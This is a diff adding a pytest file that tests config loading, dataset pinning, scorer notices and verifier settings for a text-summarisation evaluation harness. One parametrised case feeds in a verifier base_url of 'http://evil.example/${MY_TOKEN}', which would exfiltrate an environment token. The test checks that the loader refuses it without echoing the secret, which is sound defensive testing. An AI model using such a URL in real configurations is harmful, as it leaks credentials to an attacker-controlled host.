@@ -1,0 +1,161 @@
+"""Every shipped config is valid as it is, and the verifier of one can be used alone."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from command_line import harness
+from loopback import Reply, completion, serving
+
+from harness import config, pipeline
+from harness.data.articles.sources import DataSet, Table
+from harness.errors import ConfigError
+
+ROOT = Path(__file__).resolve().parents[2]
+CONFIGS = ROOT / "configs"
+SHIPPED = sorted(path.name for path in CONFIGS.glob("*.yaml") if path.name != "gate.yaml")
+
+COLUMNS = {
+    "cnn_dailymail": ("article", "highlights", "id"),
+    "xsum": ("document", "summary", "id"),
+}
+"""The columns of abisee/cnn_dailymail and EdinburghNLP/xsum, as their cards name them."""
+
+ARTICLE = "The mayor of Hull resigned on Monday. Nobody knows why she went. The council of Hull will meet on Friday."
+
+
+@pytest.mark.parametrize("name", SHIPPED)
+def test_shipped_config_validates(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A dry run: the config is checked and its plan shown. Articles of the hub are replaced by a row of our own."""
+    monkeypatch.chdir(ROOT)
+    monkeypatch.setenv("HARNESS_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("OPENAI_API_KEY", "a-key")
+    monkeypatch.delenv("HARNESS_ALLOW_ENV", raising=False)
+    row = {"id": "a", "text": ARTICLE, "summary": "The mayor resigned.", "article_id": "a", "system": "s"}
+    for file in ("realsumm_articles.jsonl", "realsumm_outputs.jsonl"):
+        kept = ("id", "text") if "articles" in file else ("article_id", "system", "summary")
+        (tmp_path / file).write_text(json.dumps({key: row[key] for key in kept}) + "\n", "utf-8")
+    monkeypatch.setenv("HARNESS_LABELLED_DATA", str(tmp_path))
+    loaded = config.load(CONFIGS / name)
+    own = tuple(
+        Table(path=tmp_path / "realsumm_articles.jsonl") if isinstance(source, DataSet) else source
+        for source in loaded.articles
+    )
+    planned = pipeline.plan(replace(loaded, articles=own))
+    assert len(planned.systems) > 0
+    for system in planned.systems:
+        assert list(planned.requests(system, planned.items))
+
+
+@pytest.mark.parametrize(
+    ("name", "prefix", "system"),
+    [("local-server", "models.served", "served"), ("hosted-api", "models.hosted", "hosted")],
+)
+def test_server_config_asks_the_given_server_and_model(
+    name: str, prefix: str, system: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def answer(request: dict[str, Any], _: int) -> Reply:
+        return completion("Zelensky asked for weapons.", request["model"])
+
+    monkeypatch.setenv("HARNESS_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("OPENAI_API_KEY", "s3cret")
+    with serving(answer) as server:
+        changes = [f"{prefix}.base_url={server.url}", f"{prefix}.model=my-model", f"{prefix}.stream=false"]
+        loaded = config.load(CONFIGS / f"{name}.yaml", [*changes, "verifier=lexical"])
+        outcome = pipeline.run(replace(loaded, only=(system,), output=tmp_path / "run"), use_cache=False)
+    assert outcome.results.manifest.problems == ()
+    prompts = ("plain", "key-facts", "only-the-article")
+    assert {summary.system for summary in outcome.results.summaries} == {f"{system}/{prompt}" for prompt in prompts}
+    assert {request["model"] for request in server.requests} == {"my-model"}
+
+
+def test_hosted_config_names_the_missing_key(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
+    with pytest.raises(ConfigError, match=r"hosted-api\.yaml:\d+: models\.hosted: .*OPENAI_API_KEY"):
+        config.load(CONFIGS / "hosted-api.yaml")
+
+
+@pytest.mark.parametrize("name", COLUMNS)
+def test_hub_rows_are_pinned(name: str) -> None:
+    (source,) = config.load(CONFIGS / f"{name}.yaml").articles
+    assert isinstance(source, DataSet)
+    assert source.revision is not None
+    assert len(source.revision) == 40
+    assert (source.split, source.rows, source.streaming) == ("test", (0, 500), True)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", COLUMNS)
+def test_hub_config_runs_on_a_data_set_with_the_same_columns(name: str, tmp_path: Path) -> None:
+    """Two articles, one of them empty: its scores give the reason, the other's have values."""
+    datasets = pytest.importorskip("datasets")
+    datasets.disable_progress_bars()
+    text, summary, key = COLUMNS[name]
+    rows = {text: [ARTICLE, ""], summary: ["The mayor of Hull resigned.", "Nothing."], key: ["a", "b"]}
+    datasets.DatasetDict({"test": datasets.Dataset.from_dict(rows)}).save_to_disk(str(tmp_path / "set"))
+    loaded = config.load(CONFIGS / f"{name}.yaml")
+    (source,) = loaded.articles
+    assert isinstance(source, DataSet)
+    local = source.model_copy(update={"dataset": str(tmp_path / "set"), "config": None, "revision": None})
+    outcome = pipeline.run(replace(loaded, articles=(local,), output=tmp_path / "run"), use_cache=False)
+    found = {(score.system, score.article_id, score.metric): score for score in outcome.results.scores}
+    assert found["oracle", "a", "rougeL.recall"].value == 1.0
+    assert found["oracle", "b", "rougeL.recall"].value is None
+    assert found["oracle", "b", "rougeL.recall"].reason
+
+
+@pytest.mark.parametrize("empty_first", [False, True])
+def test_scorers_without_facts_or_references_are_noted_once(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, empty_first: bool
+) -> None:
+    monkeypatch.setenv("HARNESS_HOME", str(tmp_path / "home"))
+    texts = ("" if empty_first else ARTICLE, ARTICLE, ARTICLE)
+    rows = "".join(f'{{"id": "{number}", "text": "{text}"}}\n' for number, text in enumerate(texts))
+    (tmp_path / "rows.jsonl").write_text(rows, "utf-8")
+    (tmp_path / "run.yaml").write_text(
+        "articles: rows.jsonl\nmodels: {lead: {kind: lead}}\nverifier: lexical\n"
+        "scorers: [fact_recall, rouge, length]\noutput: run\n"
+    )
+    manifest = pipeline.run(config.load(tmp_path / "run.yaml"), use_cache=False).results.manifest
+    assert manifest.problems == ()
+    noted = [notice for notice in manifest.notices if "has no value for any summary" in notice]
+    assert noted == [
+        "fact_recall has no value for any summary: the article has no facts",
+        "rouge has no value for any summary: the article has no reference",
+    ]
+
+
+def test_config_lends_its_verifier_and_the_command_line_overrides_options(tmp_path: Path) -> None:
+    file = tmp_path / "mine.yaml"
+    file.write_text("verifier: {kind: lexical, threshold: 0.7}\n")
+    assert config.load_verifier(str(file)).model_dump()["threshold"] == 0.7
+    assert config.load_verifier(str(file), ["threshold=0.8"]).model_dump()["threshold"] == 0.8
+    assert config.load_verifier("lexical", ["verifier.threshold=0.8"]).model_dump()["threshold"] == 0.8
+    with pytest.raises(ConfigError, match="--verifier KIND"):
+        config.load_verifier("lexical", ["verifier=entailment"])
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("models: {lead: {kind: lead}}\n", "names no verifier"),
+        ('verifier: {kind: judge, model: m, base_url: "http://evil.example/${MY_TOKEN}"}\n', "MY_TOKEN"),
+    ],
+)
+def test_verifier_that_a_run_would_refuse_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, message: str
+) -> None:
+    monkeypatch.setenv("MY_TOKEN", "s3cr3t")
+    (tmp_path / "mine.yaml").write_text(text)
+    with pytest.raises(ConfigError, match=message) as refused:
+        config.load_verifier(str(tmp_path / "mine.yaml"))
+    assert "s3cr3t" not in str(refused.value)
+
+
+def test_validate_exits_0_for_the_base_config(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(ROOT)
+    assert harness("validate", "configs/base.yaml").exit_code == 0
